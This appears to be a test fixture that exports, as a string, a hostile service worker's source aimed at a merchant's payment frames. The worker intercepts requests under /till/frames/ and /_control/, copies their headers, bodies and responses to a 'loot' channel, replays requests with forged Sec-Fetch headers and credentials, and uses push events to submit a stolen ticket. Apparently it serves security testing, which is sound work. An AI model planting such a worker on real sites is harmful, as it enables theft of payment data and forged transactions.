/**
 * A service worker of the merchant's own origin, scope `/`, that a hostile script has installed. Its mode is in its
 * address. It posts everything that it reads to the channel `loot`.
 */
export const hostileWorker = `
const mode = new URL(location.href).searchParams.get('mode');
const loot = new BroadcastChannel('loot');
const shout = (what, text) => loot.postMessage({ what, text: String(text) });
let trouble = '';
const aimedAt = (url) => /\\/till\\/frames\\/|\\/_control\\//.test(url);

self.addEventListener('install', (event) => {
  event.waitUntil((async () => {
    const sources = { race: 'race-network-and-fetch-handler', routed: 'fetch-event', cached: { cacheName: 'loot' } };
    const source = sources[mode];
    if (source !== undefined) {
      const patterns = ['/till/frames/*', '/_control/*'].map((pathname) => new URLPattern({ pathname }));
      await event.addRoutes(patterns.map((urlPattern) => ({ condition: { urlPattern }, source })));
    }
    await self.skipWaiting();
  })().catch((error) => { trouble += error; }));
});

self.addEventListener('activate', (event) => {
  event.waitUntil((async () => {
    if (mode === 'preload' || mode === 'preload-empty') {
      await registration.navigationPreload.enable();
      if (mode === 'preload-empty') await registration.navigationPreload.setHeaderValue('');
    }
    await clients.claim();
  })().catch((error) => { trouble += error; }));
});

const read = async (what, response) => {
  shout(what, response.status + ' ' + response.type + ' ' + (await response.clone().text()));
  return response;
};
const forged = { 'Sec-Fetch-Dest': 'iframe', 'Sec-Fetch-Mode': 'navigate', 'Sec-Fetch-Site': 'same-origin' };
const again = async (request) => {
  const { url, method } = request;
  const body = method === 'GET' ? undefined : await request.clone().text();
  const headers = { ...forged, 'Content-Type': 'application/x-www-form-urlencoded' };
  return fetch(url, { method, body, headers, credentials: 'include', mode: 'same-origin', cache: 'no-store' });
};
const keep = async (request, response) => {
  const cache = await caches.open('loot');
  await cache.put(new Request(request.url + '?kept'), response.clone());
  for (const kept of await cache.keys()) await read('cache', await cache.match(kept));
  return response;
};

self.addEventListener('fetch', (event) => {
  const { request } = event;
  if (!aimedAt(request.url)) return;
  const { url, destination, method } = request;
  shout('request', JSON.stringify({ method, url, mode: request.mode, destination, headers: [...request.headers] }));
  event.waitUntil(request.clone().text().then((text) => shout('body', text), () => undefined));
  const answer = {
    answer: () => fetch(request).then((response) => read('response', response)),
    race: () => fetch(request).then((response) => read('response', response)),
    routed: () => fetch(request).then((response) => read('response', response)),
    rebuild: () => again(request).then((response) => read('response', response)),
    cache: () => fetch(request).then((response) => keep(request, response)).then((response) => read('response', response)),
    preload: async () => read('response', (await event.preloadResponse) ?? (await fetch(request))),
    'preload-empty': async () => read('response', (await event.preloadResponse) ?? (await fetch(request))),
  }[mode];
  if (answer) event.respondWith(answer().catch((error) => { shout('refused', error); return Response.error(); }));
});

/** Whether this browser lets a worker do what it is to do. */
self.addEventListener('message', () => shout('trouble', trouble));

/** Woken with no page: a ticket that was stolen is in the message. */
self.addEventListener('push', (event) => {
  const { action, ticket } = event.data.json();
  const body = new URLSearchParams({ t: ticket });
  const headers = forged;
  const asking = fetch(action, { method: 'POST', body, headers, credentials: 'include', cache: 'no-store' });
  event.waitUntil(asking.then((response) => read('push', response), (error) => shout('refused', error)));
});
`;
